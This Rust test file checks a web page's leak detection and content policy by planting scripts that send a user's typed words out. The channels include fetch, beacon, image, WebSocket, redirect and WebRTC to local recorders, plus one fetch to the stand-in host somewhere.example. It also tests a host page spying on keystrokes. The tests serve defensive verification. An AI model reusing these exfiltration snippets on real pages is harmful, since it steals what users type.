//! Copies of the page that do leak, each made as somebody would make it who gets hold of the file: every leak is caught by
//! the same check that finds none on the page itself, or that check proves nothing. And the policy holds: what it forbids
//! arrives nowhere, even when a script that tries it has been let in.

use browser_tests::act;
use browser_tests::canary::word;
use browser_tests::engines::Engine::{self, Chromium, Firefox, WebKit};
use browser_tests::evidence::{End, Evidence, Place, listen_to_the_console, spying, spying_site, watched};
use browser_tests::find;
use browser_tests::journey::Person;
use browser_tests::left_behind;
use browser_tests::placements::Placement::{self, Frame, OwnTab};
use browser_tests::recorders::{Recorders, Way};
use browser_tests::site::{Page, Site};
use browser_tests::story::Visit;
use browser_tests::trouble::{Failed, Told, Tried, holds};
use browser_tests::variants::{planted, planted_without_policy, replaced, vouched};
use browser_tests::wait::until;

/// One planted way out: a function of the words, for a script.
type Plant = String;

fn by_fetch(recorders: &Recorders) -> Plant {
    format!(
        "(words) => fetch('http://127.0.0.1:{}/', {{ method: 'POST', body: 'by-fetch ' + words }})",
        recorders.port(Way::Http)
    )
}

fn by_beacon(recorders: &Recorders) -> Plant {
    format!("(words) => navigator.sendBeacon('http://127.0.0.1:{}/', 'by-beacon ' + words)", recorders.port(Way::Http))
}

fn by_image(recorders: &Recorders) -> Plant {
    format!("(words) => {{ new Image().src = 'http://127.0.0.1:{}/by-image?' + words; }}", recorders.port(Way::Http))
}

fn by_web_socket(recorders: &Recorders) -> Plant {
    let port = recorders.port(Way::WebSocket);
    format!(
        "(words) => {{ const socket = new WebSocket('ws://127.0.0.1:{port}/');
          socket.onopen = () => socket.send('by-frame ' + words); }}"
    )
}

fn by_tcp(recorders: &Recorders) -> Plant {
    format!("(words) => fetch('http://127.0.0.1:{}/by-tcp?' + btoa('a' + words))", recorders.port(Way::Tcp))
}

fn elsewhere() -> Plant {
    "(words) => fetch('http://somewhere.example/by-name?' + words)".to_owned()
}

const BY_CONSOLE: &str = "(words) => console.log('by-console', words)";
const BY_STORAGE: &str = "(words) => localStorage.setItem('by-storage', words)";
const BY_TITLE: &str = "(words) => { document.title = words; }";
const BY_HISTORY: &str = "(words) => history.replaceState(words, '', '#' + words)";
const BY_MESSAGE: &str = "(words) => parent.postMessage({ words }, '*')";

/// The script that does all of these whenever somebody leaves a text field.
fn script(plants: &[&str]) -> String {
    include_str!("../../src/probes/plants/typed.js").replace("LEAK", &plants.join(",\n"))
}

/// Somebody writes in the first text field there is, leaves it, and waits until `seen`.
async fn writes(
    engine: Engine,
    placement: Placement,
    site: Site,
    recorders: &Recorders,
    seen: impl AsyncFn(&Person) -> Tried<bool>,
) -> Result<Option<Evidence>, Failed> {
    watched(Visit::to(engine, placement), site, recorders, End::Closed, async |me, evidence| {
        listen_to_the_console(me.driver()).await?;
        me.starts().await?;
        me.walks_to("hopes").await?;
        act::write(me.driver(), &find::field("means"), &word("means")).await?;
        act::click(me.driver(), "h1").await?;
        until("the leak to have been tried", async || Ok(seen(me).await?.then_some(()))).await?;
        // Where the page still is.
        if let Ok(()) = evidence.look(me).await {
            evidence.look_at_the_host(me).await?;
        }
        Ok(())
    })
    .await
}

fn arrived(recorders: &Recorders, way: Way, mark: &str) -> bool {
    recorders.caught().iter().any(|caught| caught.way == way && String::from_utf8_lossy(&caught.bytes).contains(mark))
}

fn site_with(page: String) -> Tried<Site> {
    Ok(spying_site()?.with("/recovery-plan.html", Page::html(page)))
}

/// Ways out that the policy closes, and that is open without it.
async fn what_the_policy_stops(engine: Engine, placement: Placement) -> Told {
    let caught = [
        (Way::Http, "by-fetch"),
        (Way::Http, "by-beacon"),
        (Way::Http, "by-image"),
        (Way::WebSocket, "by-frame"),
        (Way::Tcp, "by-tcp"),
        (Way::Proxy, "somewhere.example"),
    ];
    for with_policy in [false, true] {
        let site = site_with(String::new())?;
        let address = site.url("");
        let recorders = Recorders::beside(site.port())?;
        let plants = [
            by_fetch(&recorders),
            by_beacon(&recorders),
            by_image(&recorders),
            by_web_socket(&recorders),
            by_tcp(&recorders),
            elsewhere(),
            // The last: when this has been said, all have been tried.
            "(words) => { window.tried = true; }".to_owned(),
        ];
        let script = script(&plants.each_ref().map(String::as_str));
        let page = if with_policy { planted(&script)? } else { planted_without_policy(&script)? };
        site.put("/recovery-plan.html", Page::html(page));
        let evidence = writes(engine, placement, site, &recorders, async |me| {
            let tried = find::probe(me.driver(), "return window.tried === true", vec![]).await?;
            let open: Vec<_> = caught.iter().filter(|(way, mark)| !arrived(&recorders, *way, mark)).collect();
            holds(with_policy || open.is_empty(), || format!("not arrived: {open:?}; {:?}", recorders.requests()))?;
            Ok(tried)
        })
        .await?;
        let Some(evidence) = evidence else { return Ok(()) };
        if with_policy {
            evidence.nothing_was_sent(&address, &["/recovery-plan.html"])?;
            continue;
        }
        for (way, mark) in caught {
            evidence.is_caught(&Place::Wire(way), mark)?;
        }
    }
    Ok(())
}

/// Ways out of a page that no policy closes: the page and the host are searched, the proxy records, and the folder is read.
async fn what_no_policy_stops(engine: Engine, placement: Placement) -> Told {
    let framed = placement != OwnTab;
    let plants = [BY_CONSOLE, BY_STORAGE, BY_TITLE, BY_HISTORY, BY_MESSAGE, "() => { window.tried = true; }"];
    let site = site_with(planted(&script(&plants))?)?;
    let recorders = Recorders::beside(site.port())?;
    let evidence = writes(engine, placement, site, &recorders, async |me| {
        find::probe(me.driver(), "return window.tried === true", vec![]).await
    })
    .await?;
    let Some(evidence) = evidence else { return Ok(()) };
    evidence.is_caught(&Place::Console, "by-console")?;
    for mark in ["title: ", "address: ", "history: "] {
        evidence.is_caught(&Place::Shown, mark)?;
    }
    if framed {
        evidence.is_caught(&Place::Host, "words")?;
    } else if engine != WebKit {
        // A frame without an origin may store nothing, and a WebKit that is driven keeps everything in its memory.
        evidence.is_caught(&Place::Folder, "by-storage")?;
    }
    Ok(())
}

everywhere! {
    what_no_policy_stops:
    a_console_line_and_a_stored_word_are_caught_in_chromium: Chromium, OwnTab;
    a_console_line_and_a_stored_word_are_caught_in_firefox: Firefox, OwnTab;
    a_console_line_is_caught_in_webkit: WebKit, OwnTab;
    a_message_to_the_host_page_is_caught_in_chromium: Chromium, Frame("plain");
    a_message_to_the_host_page_is_caught_in_firefox: Firefox, Frame("plain");
    a_message_to_the_host_page_is_caught_in_webkit: WebKit, Frame("plain");
}

/// The page goes to another address, and takes what was typed with it.
async fn going_elsewhere(engine: Engine, placement: Placement) -> Told {
    let site = site_with(String::new())?;
    let recorders = Recorders::beside(site.port())?;
    let goes =
        format!("(words) => {{ location.href = 'http://127.0.0.1:{}/by-going?' + words; }}", recorders.port(Way::Http));
    site.put("/recovery-plan.html", Page::html(planted(&script(&[&goes]))?));
    let evidence =
        writes(engine, placement, site, &recorders, async |_| Ok(arrived(&recorders, Way::Http, "by-going"))).await?;
    evidence.map_or(Ok(()), |evidence| Ok(evidence.is_caught(&Place::Wire(Way::Http), "by-going")?))
}

everywhere! {
    going_elsewhere:
    a_page_that_goes_elsewhere_with_my_words_is_caught_in_chromium: Chromium, OwnTab;
    a_page_that_goes_elsewhere_with_my_words_is_caught_in_firefox: Firefox, OwnTab;
    a_page_that_goes_elsewhere_with_my_words_is_caught_in_webkit: WebKit, OwnTab;
    a_frame_that_goes_elsewhere_with_my_words_is_caught_in_chromium: Chromium, Frame("plain");
    a_frame_that_goes_elsewhere_with_my_words_is_caught_in_firefox: Firefox, Frame("plain");
    a_frame_that_goes_elsewhere_with_my_words_is_caught_in_webkit: WebKit, Frame("plain");
}

/// A channel between browsers, which no policy knows. The page takes it away before anything else runs; here that is taken
/// out of the page, whose policy stays.
async fn a_channel_between_browsers(engine: Engine) -> Told {
    for taken_away in [false, true] {
        let site = site_with(String::new())?;
        let address = site.url("");
        let recorders = Recorders::beside(site.port())?;
        let channel = format!(
            "() => {{ window.tried = typeof RTCPeerConnection;
              const channel = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:127.0.0.1:{}' }}] }});
              channel.createDataChannel('by-channel');
              channel.createOffer().then((offer) => channel.setLocalDescription(offer)); }}",
            recorders.port(Way::Udp)
        );
        let page = planted(&script(&[&channel]))?;
        let names = "\"RTCPeerConnection\", \"webkitRTCPeerConnection\", ";
        let page = if taken_away { page } else { vouched(&replaced(&page, names, "")?)? };
        site.put("/recovery-plan.html", Page::html(page));
        let evidence = writes(engine, OwnTab, site, &recorders, async |me| {
            let tried: Option<String> = find::probe(me.driver(), "return window.tried", vec![]).await?;
            let Some(kind) = tried else { return Ok(false) };
            holds((kind == "undefined") == taken_away, || format!("RTCPeerConnection is {kind}"))?;
            Ok(taken_away || arrived(&recorders, Way::Udp, ""))
        })
        .await?;
        let Some(evidence) = evidence else { return Ok(()) };
        if taken_away {
            evidence.nothing_was_sent(&address, &["/recovery-plan.html"])?;
        } else {
            evidence.is_caught(&Place::Wire(Way::Udp), "bytes")?;
        }
    }
    Ok(())
}

// WebKitGTK is built without such channels.
#[tokio::test]
async fn a_channel_between_browsers_is_caught_and_the_page_has_none_in_chromium() -> Told {
    a_channel_between_browsers(Chromium).await
}

#[tokio::test]
async fn a_channel_between_browsers_is_caught_and_the_page_has_none_in_firefox() -> Told {
    a_channel_between_browsers(Firefox).await
}

/// A field as a widget without a frame would have it, in a closed shadow root of the host page.
const IN_SHADOW: &str = "<main data-screen=\"start\"><h1 tabindex=\"-1\">My plan</h1></main><div id=\"widget\"></div><script>
  const root = document.getElementById('widget').attachShadow({ mode: 'closed' });
  const field = root.appendChild(document.createElement('textarea'));
  for (const kind of ['keydown', 'input', 'beforeinput']) field.addEventListener(kind, (event) => event.stopPropagation());
  document.getElementById('widget').addEventListener('click', () => field.focus());
</script>";

/// The same spy, on the same host page, with the widget in it instead of framed: it sees every key.
async fn a_field_in_a_shadow(engine: Engine) -> Told {
    let plain = browser_tests::hosts::page("plain")?;
    let host = replaced(&spying(&plain)?, "</body>", &format!("{IN_SHADOW}</body>"))?;
    let site = spying_site()?.with("/recovery-plan.html", Page::html(host));
    let recorders = Recorders::beside(site.port())?;
    let evidence = watched(Visit::to(engine, OwnTab), site, &recorders, End::Closed, async |me, evidence| {
        act::click(me.driver(), "#widget").await?;
        act::type_text(me.driver(), &word("means")).await?;
        evidence.look_at_the_host(me).await?;
        Ok(())
    })
    .await?;
    evidence.map_or(Ok(()), |evidence| Ok(evidence.is_caught(&Place::Host, "keys")?))
}

#[tokio::test]
async fn a_field_in_a_closed_shadow_is_seen_by_the_host_in_chromium() -> Told {
    a_field_in_a_shadow(Chromium).await
}

#[tokio::test]
async fn a_field_in_a_closed_shadow_is_seen_by_the_host_in_firefox() -> Told {
    a_field_in_a_shadow(Firefox).await
}

#[tokio::test]
async fn a_field_in_a_closed_shadow_is_seen_by_the_host_in_webkit() -> Told {
    a_field_in_a_shadow(WebKit).await
}

/// A field as most pages have them: what was typed in it is in the folder of a browser that has crashed.
async fn an_ordinary_field_after_a_crash(engine: Engine) -> Told {
    let page = "<!doctype html><html lang=en><title>Keeps</title><main data-screen=start><h1>Keeps</h1>
        <form><textarea name=words id=words></textarea></form></main>";
    let site = site_with(page.to_owned())?;
    let recorders = Recorders::beside(site.port())?;
    let evidence = watched(Visit::to(engine, OwnTab), site, &recorders, End::Crashed, async |me, _| {
        act::write(me.driver(), "textarea", &word("means")).await?;
        act::click(me.driver(), "h1").await?;
        until("the browser to note it down", async || {
            Ok(left_behind::has(me.browser.folder(), &word("means")).then_some(()))
        })
        .await?;
        Ok(())
    })
    .await?;
    evidence.map_or(Ok(()), |evidence| Ok(evidence.is_caught(&Place::Folder, "ession")?))
}

#[tokio::test]
async fn what_an_ordinary_field_leaves_after_a_crash_is_caught_in_chromium() -> Told {
    an_ordinary_field_after_a_crash(Chromium).await
}

#[tokio::test]
async fn what_an_ordinary_field_leaves_after_a_crash_is_caught_in_firefox() -> Told {
    an_ordinary_field_after_a_crash(Firefox).await
}

everywhere! {
    what_the_policy_stops:
    planted_requests_are_caught_and_the_policy_stops_them_in_chromium: Chromium, OwnTab;
    planted_requests_are_caught_and_the_policy_stops_them_in_firefox: Firefox, OwnTab;
    planted_requests_are_caught_and_the_policy_stops_them_in_webkit: WebKit, OwnTab;
}
